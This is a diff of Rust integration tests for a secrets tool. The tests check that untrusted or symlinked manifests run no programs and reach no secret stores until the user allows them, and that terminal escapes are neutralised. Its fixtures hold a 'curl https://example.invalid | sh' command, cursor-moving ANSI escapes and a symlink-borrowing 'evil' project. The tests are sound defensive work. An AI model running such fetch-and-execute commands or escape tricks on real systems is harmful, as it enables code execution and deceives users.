@@ -19,6 +19,14 @@ fn strangers_manifest(sb: &mut Sandbox) -> (std::path::PathBuf, FakeOp) {
     (m, op)
 }
 
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
 #[track_caller]
 fn assert_refused(out: &std::process::Output, stdout_wanted: &str, why: &str) {
     assert_code(out, 2);
@@ -61,11 +69,11 @@ fn an_untrusted_manifest_contacts_nothing_until_allowed_and_again_after_an_edit(
     assert_code(&out, 0);
     let shown = stdout(&out);
     assert!(
-        shown.contains("read from 1password: AWS_SECRET_ACCESS_KEY"),
+        shown.contains("AWS_SECRET_ACCESS_KEY: read op://Private/aws/secret (1password)"),
         "{shown}"
     );
     assert!(
-        shown.contains("run a program for BUILD: cmd:sh -c 'touch ran-a-program; printf x'"),
+        shown.contains("BUILD: run `cmd:sh -c 'touch ran-a-program; printf x'` (program: /"),
         "{shown}"
     );
     let out = sb.jit_m(&["activate", "--shell", "json"]);
@@ -89,14 +97,14 @@ fn an_untrusted_manifest_contacts_nothing_until_allowed_and_again_after_an_edit(
     assert!(trusted.contains("sha256:"), "{trusted}");
     assert!(!trusted.contains("the-users-secret"), "{trusted}");
 
-    // deny: untrusted again.
+    // deny: untrusted again, and it says so.
     std::fs::write(&manifest, &text).unwrap();
     assert_code(&sb.jit_m(&["activate", "--shell", "json"]), 0);
     assert_code(&sb.jit(&["deny", manifest.to_str().unwrap()]), 0);
     assert_refused(
         &sb.jit_m(&["activate", "--shell", "bash"]),
         "false\n",
-        "new (not allowed yet)",
+        "denied",
     );
 }
 
@@ -140,12 +148,327 @@ fn hosts_vouch_only_for_their_own_manifest_and_the_override_skips_the_check() {
     sb.set_env("FLOX_ENV_PROJECT", &project);
     let out = sb.jit(&["--trusted-by", "flox", "activate", "--shell", "json"]);
     assert_code(&out, 0);
-    // --trusted-by nix (a devShell's shellHook) vouches for what it names.
-    assert_code(
-        &sb.jit_m(&["--trusted-by", "nix", "activate", "--shell", "json"]),
-        0,
+    // --trusted-by nix (a devShell's shellHook) vouches only for the manifest it pins.
+    let out = sb.jit_m(&["--trusted-by", "nix", "activate", "--shell", "bash"]);
+    assert_refused(&out, "false\n", "needs the manifest's pin");
+    let pin = sha256_hex(&std::fs::read(&manifest).unwrap());
+    let out = sb.jit_m(&[
+        "--trusted-by",
+        "nix",
+        "--manifest-sha256",
+        &pin,
+        "activate",
+        "--shell",
+        "json",
+    ]);
+    assert_code(&out, 0);
+    // The same hook started inside another clone: that clone's manifest is not the pinned one.
+    let other = sb.write(
+        "clone/manifest.toml",
+        "[secrets]\nBUILD = \"cmd:sh -c 'touch ran-a-program; printf x'\"\n",
     );
+    let out = sb.jit(&[
+        "--manifest",
+        other.to_str().unwrap(),
+        "--trusted-by",
+        "nix",
+        "--manifest-sha256",
+        &pin,
+        "activate",
+        "--shell",
+        "bash",
+    ]);
+    assert_refused(&out, "false\n", "not the one the nix hook pinned");
+    assert!(!sb.path().join("clone/ran-a-program").exists());
+    // --trusted-by flox outside Flox says it was ignored.
+    sb.env.remove("FLOX_ENV_PROJECT");
+    let out = sb.jit_m(&["--trusted-by", "flox", "activate", "--shell", "bash"]);
+    assert_refused(&out, "false\n", "FLOX_ENV_PROJECT is unset");
     // The CI override.
     sb.set_env("JIT_SECRETS_TRUST_ALL_MANIFESTS", "1");
     assert_code(&sb.jit_m(&["activate", "--shell", "json"]), 0);
+}
+
+/// Commands that contact a store or the cache, each run as a user would (no --manifest) from
+/// the current directory `dir`: every one must be refused before anything is contacted.
+const CONTACTING: &[&[&str]] = &[
+    &["activate", "--shell", "bash"],
+    &["run", "--", "true"],
+    &["verify"],
+    &["set", "AWS_SECRET_ACCESS_KEY"],
+    &["rotate", "AWS_SECRET_ACCESS_KEY"],
+    &["delete", "AWS_SECRET_ACCESS_KEY", "--yes"],
+    &["setup"],
+    &["cache", "list"],
+];
+
+fn run_in(sb: &Sandbox, dir: &std::path::Path, args: &[&str]) -> std::process::Output {
+    sb.command(support::BIN)
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .unwrap()
+}
+
+/// project-a is allowed; evil/ borrows its manifest through a symlink (the file itself, or a
+/// parent directory) and ships its own `conf.txt` for project-a's relative `file:` reference.
+#[test]
+fn a_manifest_reached_through_a_symlink_does_not_borrow_the_targets_trust() {
+    let mut sb = Sandbox::requiring_trust();
+    let op = FakeOp::new(
+        &mut sb,
+        &serde_json::json!({"op://Private/aws/secret": "the-users-secret"}),
+    );
+    let text = "[secrets]\nAWS_SECRET_ACCESS_KEY = \"op://Private/aws/secret\"\nDEV_CONFIG = \"file:conf.txt\"\nBUILD = \"cmd:sh -c 'touch ran-a-program; printf x'\"\n";
+    let a = sb.write("project-a/manifest.toml", text);
+    sb.write("project-a/conf.txt", "a-config");
+    assert_code(&sb.jit(&["allow", a.to_str().unwrap()]), 0);
+    let calls_after_allow = op.calls().len();
+    assert_eq!(calls_after_allow, 0, "allow contacts no store");
+
+    // The symlink as the manifest.
+    let evil = sb.path().join("evil");
+    std::fs::create_dir_all(evil.join(".git")).unwrap();
+    std::os::unix::fs::symlink("../project-a/manifest.toml", evil.join("manifest.toml")).unwrap();
+    sb.write("evil/conf.txt", "ATTACKER");
+    // A symlinked parent directory: evil2/.flox -> project-b's, which is allowed.
+    let flox = "version = 1\n[install]\n[plugins.jit-secrets]\nAWS_SECRET_ACCESS_KEY = \"op://Private/aws/secret\"\nDEV_CONFIG = \"file:conf.txt\"\n";
+    let b = sb.write("project-b/.flox/env/manifest.toml", flox);
+    assert_code(&sb.jit(&["allow", b.to_str().unwrap()]), 0);
+    let evil2 = sb.path().join("evil2");
+    std::fs::create_dir_all(evil2.join(".git")).unwrap();
+    std::os::unix::fs::symlink("../project-b/.flox", evil2.join(".flox")).unwrap();
+
+    for dir in [&evil, &evil2] {
+        for args in CONTACTING {
+            let out = run_in(&sb, dir, args);
+            let statement = if args[0] == "activate" { "false\n" } else { "" };
+            assert_refused(&out, statement, "new (not allowed yet)");
+            assert!(
+                stderr(&out).contains(dir.file_name().unwrap().to_str().unwrap()),
+                "names the path as reached: {}",
+                stderr(&out)
+            );
+        }
+    }
+    assert!(
+        op.calls().is_empty(),
+        "a store was contacted: {:?}",
+        op.calls()
+    );
+    assert!(!evil.join("ran-a-program").exists(), "a program ran");
+
+    // The real projects still work, with their own relative references.
+    let out = run_in(&sb, a.parent().unwrap(), &["activate", "--shell", "json"]);
+    assert_code(&out, 0);
+    assert!(
+        stdout(&out).contains("\"DEV_CONFIG\":\"a-config\""),
+        "{}",
+        stdout(&out)
+    );
+
+    // Allowing the symlink says where it leads, and from then on it is a project of its own.
+    let out = run_in(&sb, &evil, &["allow"]);
+    assert_code(&out, 0);
+    let shown = stdout(&out);
+    assert!(
+        shown.contains("reached through a symlink to ")
+            && shown.contains("project-a/manifest.toml"),
+        "{shown}"
+    );
+    let out = run_in(&sb, &evil, &["activate", "--shell", "json"]);
+    assert_code(&out, 0);
+    assert!(
+        stdout(&out).contains("\"DEV_CONFIG\":\"ATTACKER\""),
+        "{}",
+        stdout(&out)
+    );
+}
+
+/// `cmd:` programs, their arguments and `commands` overrides resolve from the manifest's
+/// directory wherever the command runs; the scripts they name are part of what was allowed.
+#[test]
+fn programs_resolve_from_the_manifest_and_a_changed_script_needs_allow_again() {
+    let sb = Sandbox::requiring_trust();
+    let script = sb.write_executable("proj/scripts/get-token", "#!/bin/sh\nprintf 'proj-token'\n");
+    sb.write_executable(
+        "proj/sub/scripts/get-token",
+        "#!/bin/sh\nprintf 'WRONG-sub'\n",
+    );
+    sb.write_executable("proj/bin/op", "#!/bin/sh\nprintf 'from-proj-op'\n");
+    sb.write("proj/data.txt", "data-1");
+    let m = sb.write(
+        "proj/manifest.toml",
+        "[secrets]\nA = \"cmd:./scripts/get-token\"\nB = \"cmd:sh scripts/get-token\"\nC = \"op://V/i/f\"\nD = \"file:data.txt\"\n[secrets.options]\ncommands = { op = \"./bin/op\" }\n",
+    );
+    std::fs::create_dir_all(sb.path().join("proj/.git")).unwrap();
+    let sub = sb.path().join("proj/sub");
+    let out = run_in(&sb, &sub, &["allow"]);
+    assert_code(&out, 0);
+    let shown = stdout(&out);
+    for listed in ["proj/scripts/get-token", "proj/bin/op"] {
+        assert!(shown.contains(listed), "allow lists {listed}: {shown}");
+    }
+    assert!(
+        !shown
+            .lines()
+            .any(|l| l.starts_with("    ") && l.ends_with("data.txt")),
+        "a data file is not hashed as code: {shown}"
+    );
+
+    let out = run_in(&sb, &sub, &["activate", "--shell", "json"]);
+    assert_code(&out, 0);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        v["A"], "proj-token",
+        "./scripts/x from the manifest's directory"
+    );
+    assert_eq!(
+        v["B"], "proj-token",
+        "an argument naming a script, likewise"
+    );
+    assert_eq!(v["C"], "from-proj-op", "a commands override, likewise");
+
+    // A data file is not code: editing it keeps the manifest trusted.
+    sb.write("proj/data.txt", "data-2");
+    assert_code(&run_in(&sb, &sub, &["activate", "--shell", "json"]), 0);
+
+    // A `git pull` that changes only the script: refused, naming the script.
+    std::fs::write(&script, "#!/bin/sh\nprintf 'new-code'\n").unwrap();
+    let out = run_in(&sb, &sub, &["activate", "--shell", "bash"]);
+    assert_refused(&out, "false\n", "scripts/get-token");
+    assert!(
+        stderr(&out).contains("changed since you allowed it"),
+        "{}",
+        stderr(&out)
+    );
+    // So does the override's program.
+    assert_code(&sb.jit(&["allow", m.to_str().unwrap()]), 0);
+    sb.write_executable("proj/bin/op", "#!/bin/sh\nprintf 'evil-op'\n");
+    assert_refused(&run_in(&sb, &sub, &["run", "--", "true"]), "", "bin/op");
+}
+
+/// Everything `allow` prints is what the manifest says, escaped: nothing in it can move the
+/// cursor or erase a line, and nothing it will do is left out.
+#[test]
+fn allow_shows_every_reference_program_and_option_escaped() {
+    let sb = Sandbox::requiring_trust();
+    let m = sb.manifest(concat!(
+        "[secrets]\n",
+        "DEPLOY_KEY = { from = [\"file:~/.ssh/id_ed25519\", \"env:DEPLOY_KEY_FALLBACK\"], description = \"hidden \\u001b[2A\\u001b[2K\\r line\" }\n",
+        "TOKEN = \"cmd:sh -c 'curl https://example.invalid | sh'\"\n",
+        "AGE = \"age:secret.age\"\n",
+        "KP = \"keepassxc:db.kdbx#entry\"\n",
+        "PL = \"plugin:vaultish/key\"\n",
+        "[secrets.options]\n",
+        "identity = \"keys/age.txt\"\n",
+        "keepassxc = { password_from = \"env:KP_PASS\", keyfile = \"db.key\" }\n",
+        "commands = { \"op\\u001b[2K\" = \"/opt/op\" }\n",
+        "[secrets.profiles.\"prod\\u0007\"]\n",
+        "TOKEN = \"op://Private/aws/secret\"\n",
+    ));
+    let out = sb.jit(&["allow", m.to_str().unwrap()]);
+    assert_code(&out, 0);
+    let shown = stdout(&out);
+    assert!(
+        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
+        "raw escapes: {shown:?}"
+    );
+    for needle in [
+        "DEPLOY_KEY: read file:~/.ssh/id_ed25519 (file), else copy env:DEPLOY_KEY_FALLBACK",
+        "TOKEN: run `cmd:sh -c 'curl https://example.invalid | sh'` (program: /",
+        "TOKEN (profile prod\\x07): read op://Private/aws/secret (1password)",
+        "/secret.age (age)",
+        "/db.kdbx#entry (keepassxc)",
+        "PL: ask the plugin not found: neither jit-secrets-plugin-vaultish nor envref-backend-vaultish is on PATH for plugin:vaultish/key",
+        "decrypt age: files with the identity ",
+        "/keys/age.txt",
+        "unlock KeePassXC databases with the password from copy env:KP_PASS",
+        "unlock KeePassXC databases with the key file ",
+        "wherever it runs `op\\e[2K` (a `commands` override)",
+    ] {
+        assert!(shown.contains(needle), "missing {needle:?} in:\n{shown}");
+    }
+    // `list` shows the description escaped too.
+    let out = sb.jit_m(&["list"]);
+    assert!(!out.stdout.contains(&0x1b), "{:?}", stdout(&out));
+    assert!(
+        stdout(&out).contains("hidden \\e[2A\\e[2K\\r line"),
+        "{}",
+        stdout(&out)
+    );
+}
+
+/// Many `allow`s and `deny`s at once on different manifests: the trust file loses none of them.
+#[test]
+fn concurrent_allows_and_denies_lose_no_line() {
+    let sb = Sandbox::requiring_trust();
+    let manifests: Vec<_> = (0..50)
+        .map(|i| {
+            let m = sb.write(
+                &format!("p{i}/manifest.toml"),
+                format!("[secrets]\nA{i} = \"env:HOME\"\n"),
+            );
+            let d = sb.write(
+                &format!("d{i}/manifest.toml"),
+                format!("[secrets]\nB{i} = \"env:HOME\"\n"),
+            );
+            (m, d)
+        })
+        .collect();
+    // The d* manifests start allowed; each pair then runs `allow p` and `deny d` at once.
+    for (_, d) in &manifests {
+        assert_code(&sb.jit(&["allow", d.to_str().unwrap()]), 0);
+    }
+    let children: Vec<_> = manifests
+        .iter()
+        .flat_map(|(m, d)| {
+            [
+                sb.command(support::BIN)
+                    .args(["allow", m.to_str().unwrap()])
+                    .stdout(std::process::Stdio::null())
+                    .spawn()
+                    .unwrap(),
+                sb.command(support::BIN)
+                    .args(["deny", d.to_str().unwrap()])
+                    .stderr(std::process::Stdio::null())
+                    .spawn()
+                    .unwrap(),
+            ]
+        })
+        .collect();
+    for mut c in children {
+        assert!(c.wait().unwrap().success());
+    }
+    for (m, d) in &manifests {
+        let allowed = sb.jit(&[
+            "--manifest",
+            m.to_str().unwrap(),
+            "activate",
+            "--shell",
+            "json",
+        ]);
+        assert_code(&allowed, 0);
+        let denied = sb.jit(&[
+            "--manifest",
+            d.to_str().unwrap(),
+            "activate",
+            "--shell",
+            "json",
+        ]);
+        assert_code(&denied, 2);
+        assert!(stderr(&denied).contains("denied"), "{}", stderr(&denied));
+    }
+    let file =
+        std::fs::read_to_string(sb.path().join("h/.local/share/jit-secrets/trusted")).unwrap();
+    assert_eq!(
+        file.lines().filter(|l| l.starts_with("sha256:")).count(),
+        50,
+        "{file}"
+    );
+    assert_eq!(
+        file.lines().filter(|l| l.starts_with("denied ")).count(),
+        50,
+        "{file}"
+    );
 }
